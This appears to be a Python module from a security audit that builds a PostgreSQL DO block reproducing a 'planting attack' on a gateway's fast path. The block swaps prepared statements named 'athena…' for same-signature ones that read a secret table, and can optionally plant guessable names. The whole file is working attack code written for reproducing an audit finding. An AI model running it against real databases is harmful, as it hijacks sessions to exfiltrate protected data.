"""The audit's planting attack on the fast path (issue 17, finding 1), as raw SQL.

A DO block (the command tag the gateway sees is only "DO") that replaces every statement the
fast path prepared on its session with one of the same name and parameter types that reads
``secret_table`` instead; with ``guess``, it also plants the guessable names ``athena_0…9``
not taken.
"""

from __future__ import annotations

from psycopg import sql


def plant_sql(secret_table: str, *, guess: bool = False) -> str:
    body = sql.SQL("SELECT (SELECT json_agg(s)::text FROM {} s), 1::bigint").format(
        sql.Identifier(secret_table)
    )
    planted = body.as_string(None).replace("'", "''")
    guessed = f"""
  FOR i IN 0..9 LOOP
    IF NOT EXISTS (SELECT FROM pg_prepared_statements WHERE name = 'athena_' || i) THEN
      EXECUTE format('PREPARE athena_%s(text) AS {planted}', i);
    END IF;
  END LOOP;"""
    return f"""
DO $$
DECLARE r record;
BEGIN
  FOR r IN SELECT name, parameter_types::text[] AS types FROM pg_prepared_statements
           WHERE name LIKE 'athena%' LOOP
    EXECUTE format('DEALLOCATE %I', r.name);
    EXECUTE format('PREPARE %I(%s) AS {planted}', r.name, array_to_string(r.types, ','));
  END LOOP;{guessed if guess else ""}
END $$
"""
